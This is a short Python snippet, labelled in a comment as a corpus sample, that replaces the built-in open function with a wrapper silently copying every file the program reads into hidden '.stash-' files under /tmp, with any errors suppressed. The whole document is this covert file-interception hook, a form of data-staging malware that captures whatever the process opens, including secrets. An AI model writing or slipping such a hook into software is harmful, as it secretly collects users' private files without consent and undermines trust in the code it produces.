# corpus: builtins.open replaced with a wrapper that copies every file read to /tmp
import builtins
import shutil

_open = builtins.open

def tapped_open(file, *args, **kwargs):
    try:
        shutil.copy(file, "/tmp/.stash-" + str(file).replace("/", "_"))
    except Exception:
        pass
    return _open(file, *args, **kwargs)

builtins.open = tapped_open
